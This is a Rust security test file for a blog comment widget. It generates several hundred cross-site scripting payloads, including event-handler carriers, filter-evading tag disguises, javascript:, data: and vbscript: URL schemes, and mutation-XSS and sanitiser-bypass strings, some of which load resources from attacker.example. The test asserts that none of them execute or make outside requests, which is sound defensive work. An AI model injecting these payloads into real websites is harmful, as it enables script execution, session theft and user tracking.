//! Attackers: what they write into a comment, a name or a website never runs, asks
//! nothing of anybody, and makes no link but to the web and to mail.

use anyhow::{Result, ensure};
use serde_json::json;

use crate::support::{Browser, Server, same_origin};

const COMMENTS: &str = "article-comments";

/// The effect of an attack that succeeds: it is seen by the page.
const RUN: &str = "parent.attacked=top.attacked=attacked=1";

/// The elements that have run scripts by an event of their own somewhere.
const CARRIERS: [(&str, &str); 24] = [
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("div contenteditable autofocus", "onfocus"),
    ("a id=x tabindex=1 autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=/x", "onerror"),
];

/// Ways to write an element so that a filter does not see it.
const DISGUISES: [&str; 8] = [
    "<{element} {event}=\"{run}\">",
    "<{element}/{event}={run}>",
    "<{element} {event} = '{run}' x=",
    "\"><{element} {event}={run}>",
    "<<{element} {event}={run}//<",
    "`<{element} {event}={run}>`<{element} {event}={run}>",
    "<p title=\"<!--\"><{element} {event}={run}>-->",
    "</textarea></title></style></script><{element} {event}={run}>",
];

/// Schemes that run a script, or bring a document of the attacker's.
const SCHEMES: [&str; 16] = [
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " \u{1}javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A&#x61vascript:{run}",
    "javascript://example.org/%0a{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "vbscript:{run}",
    "blob:{run}",
    "file:///etc/passwd",
    "feed:javascript:{run}",
];

/// Ways to write a link or a picture.
const LINKS: [&str; 8] = [
    "[link]({url})",
    "[link](<{url}>)",
    "![picture]({url})",
    "<{url}>",
    "[link][1]\n\n[1]: {url}",
    "<a href=\"{url}\">link</a>",
    "<form action=\"{url}\"><button>go</button></form>",
    "[![picture]({url})]({url} \"title\")",
];

/// HTML that has come through sanitisers by being read twice, or by other doors.
const ODD: [&str; 26] = [
    "<script>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<svg><script>{run}</script></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<template><img src=x onerror={run}></template>",
    "<iframe srcdoc=\"<script>{run}</script>\"></iframe>",
    "<object data=\"data:text/html,<script>{run}</script>\"></object>",
    "<base href=\"https://attacker.example/\"><a href=x>x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "<link rel=import href=https://attacker.example/x>",
    "<img src=https://attacker.example/pixel.png>",
    "<p style=\"background:url(https://attacker.example/x)\">styled</p>",
    "<style>@import 'https://attacker.example/x';</style>",
    "<video poster=https://attacker.example/x></video>",
    "<a ping=https://attacker.example/x href=https://example.org/>ping</a>",
    "<a href=\"https://example.org/\" onclick=\"{run}\" style=\"position:fixed;inset:0\">all of it</a>",
    "<x-widget onclick={run} slot=x part=submit id=body name=body>custom</x-widget>",
    "{{constructor.constructor('{run}')()}}${`${{run}}`}#{run}",
    "```\"><img src=x onerror={run}>\n<script>{run}</script>\n```",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "\u{0}<img\u{0} src=x onerror={run}>\u{202e}\u{feff}",
];

fn attacks() -> Vec<String> {
    let events = CARRIERS.iter().flat_map(|(element, event)| {
        let written = |disguise: &&str| {
            disguise
                .replace("{element}", element)
                .replace("{event}", event)
        };
        DISGUISES.iter().map(written).collect::<Vec<_>>()
    });
    let links = SCHEMES.iter().flat_map(|url| {
        let written = |link: &&str| link.replace("{url}", url);
        LINKS.iter().map(written).collect::<Vec<_>>()
    });
    let odd = ODD.iter().map(|&odd| odd.to_owned());
    let all = events.chain(links).chain(odd);
    all.map(|attack| attack.replace("{run}", RUN)).collect()
}

/// Everything that a page with the comments can ask for.
const REQUESTS: &str = "performance.getEntriesByType('resource')
    .map(({name}) => name)
    .filter((name) => !new URL(name).pathname.match(
        /^.(api.v1.comments|article-widgets.js|bundle-[0-9a-f]+.[\\w-]+.(js|wasm|json)|icon.png)$/)
        || new URL(name).origin !== location.origin)";

/// An expression for everything in the comments that no comment may have: elements, attributes and
/// addresses.
const STRANGE: &str = "(() => {
    const names = new Set(['P', 'BR', 'STRONG', 'EM', 'B', 'I', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE',
        'UL', 'OL', 'LI', 'HR', 'A']);
    const attributes = {A: ['href', 'rel', 'title'], OL: ['start', 'class']};
    const found = [];
    const root = find('article-comments').shadowRoot;
    for (const element of root.querySelectorAll('.text *')) {
        if (!names.has(element.tagName)) found.push(element.outerHTML);
        for (const {name, value} of element.attributes) {
            // The widget's own, by which a block runs in the direction of its letters.
            const isDirection = name === 'dir' && ['auto', 'ltr'].includes(value);
            if (!isDirection && !attributes[element.tagName]?.includes(name)) {
                found.push(element.outerHTML);
            }
        }
    }
    for (const link of root.querySelectorAll('a')) {
        if (!['http:', 'https:', 'mailto:'].includes(link.protocol)) found.push(link.outerHTML);
        if (link.closest('.text, .author') && link.rel !== 'nofollow ugc noopener') {
            found.push(link.outerHTML);
        }
    }
    return found;
})()";

/// The page's own policy lets everything run, so that only the widget stands against
/// the attack.
const LAX: &str = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'";

#[tokio::test(flavor = "multi_thread")]
async fn no_attack_in_a_comment_succeeds() -> Result<()> {
    let server = Server::start(&["--comments-per-address", "0"]).await?;
    let attacks = attacks();
    ensure!(attacks.len() >= 300, "{} attacks", attacks.len());
    let key = "attacked";
    let mut count = 0;
    for (number, attack) in (1_u32..).zip(&attacks) {
        // A name has 100 characters at most, and a website no spaces.
        let name: String = attack.chars().take(100).collect();
        let comment = json!({"body": attack, "name": name});
        server.comment(key, number, &comment).await?;
        let site = json!({"body": "Hello", "name": "Ada", "website": attack});
        // Most are no web address, which the server says.
        if server.comment(key, number + 10_000, &site).await.is_ok() {
            count += 1;
        }
    }
    let shown = attacks.len() + count;
    for path in ["/", "/#comment-x"] {
        let body = "<article-comments article=attacked loading=eager paging=scroll images></article-comments>";
        let blog = same_origin(&server.url, LAX, body).await?;
        let reader = Browser::start().await?;
        reader.open(&format!("{}{path}", blog.url)).await?;
        reader
            .until(&format!(
                "(() => {{
                    const root = find('article-comments').shadowRoot;
                    root.querySelector('.more')?.click();
                    return root.querySelectorAll('article').length === {shown};
                }})()"
            ))
            .await?;
        reader
            .run("for (const part of find('article-comments').shadowRoot.querySelectorAll('.text *')) part.click();")
            .await?;
        let strange = reader.run(&format!("return {STRANGE};")).await?;
        assert_eq!(strange, json!([]));
        let requests = reader.run(&format!("return {REQUESTS};")).await?;
        assert_eq!(requests, json!([]));
        let attacked = reader.run("return window.attacked ?? null;").await?;
        assert_eq!(attacked, json!(null));
        // In the page itself, it succeeds.
        let attack = json!(format!("<img src=/x onerror={RUN}>"));
        reader
            .run(&format!(
                "document.body.insertAdjacentHTML('beforeend', {attack});"
            ))
            .await?;
        reader.until("window.attacked === 1").await?;
        reader.until(&format!("{REQUESTS}.length === 1")).await?;
    }
    Ok(())
}

/// The strictest policy under which the widgets promise to work.
const STRICT: &str = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; \
    img-src 'self'; style-src 'self'; require-trusted-types-for 'script'";

#[tokio::test(flavor = "multi_thread")]
async fn under_the_strictest_policy_everything_works_and_nothing_is_reported() -> Result<()> {
    let server = Server::start(&["--allow-images"]).await?;
    let body = "<article-comments article=one images></article-comments>";
    let blog = same_origin(&server.url, STRICT, body).await?;
    let reader = Browser::start().await?;
    reader
        .before_each_page(
            "window.violations = [];
            document.addEventListener('securitypolicyviolation', (event) =>
                violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));",
        )
        .await?;
    reader.open(&blog.url).await?;
    let text =
        "**Hello** [there](https://example.org)\n\n![clock](/clock.svg)\n\n- one\n- <b>two</b>";
    reader.type_into(COMMENTS, "#body", text).await?;
    reader.type_into(COMMENTS, "#name", "Ada").await?;
    reader
        .type_into(COMMENTS, "#website", "example.org")
        .await?;
    reader.click(COMMENTS, "#body-preview-tab").await?;
    reader.until_there(".preview .text strong").await?;
    reader.click(COMMENTS, "[name=remember]").await?;
    reader.click(COMMENTS, "[type=submit]").await?;
    reader.until_there("article .text ul").await?;
    reader.click(COMMENTS, "li .reply").await?;
    reader
        .type_into(COMMENTS, "#reply-body", "`<script>`")
        .await?;
    reader.click(COMMENTS, "li [type=submit]").await?;
    reader.until_there("li li .text code").await?;
    reader.click(COMMENTS, "li li .edit").await?;
    reader.type_into(COMMENTS, "#edit-body", " changed").await?;
    reader.click(COMMENTS, "li li [type=submit]").await?;
    reader.until_shown(COMMENTS, "<script> changed").await?;
    reader.click(COMMENTS, "li li .withdraw").await?;
    reader.click(COMMENTS, "li li .confirm").await?;
    reader.until_gone("li li article").await?;
    reader.set_online(false).await?;
    reader.type_into(COMMENTS, "#body", "Later").await?;
    reader.click(COMMENTS, ".writing [type=submit]").await?;
    reader.until_there(".unsent").await?;
    reader.set_online(true).await?;
    reader.until_shown(COMMENTS, "2 comments").await?;
    let violations = reader.run("return violations;").await?;
    assert_eq!(violations, json!([]));
    reader.reload().await?;
    reader.until_shown(COMMENTS, "2 comments").await?;
    let violations = reader.run("return violations;").await?;
    assert_eq!(violations, json!([]));
    // What the policy forbids is reported.
    reader
        .run("document.body.setAttribute('style', 'color: red');")
        .await?;
    reader.until("violations.length === 1").await
}
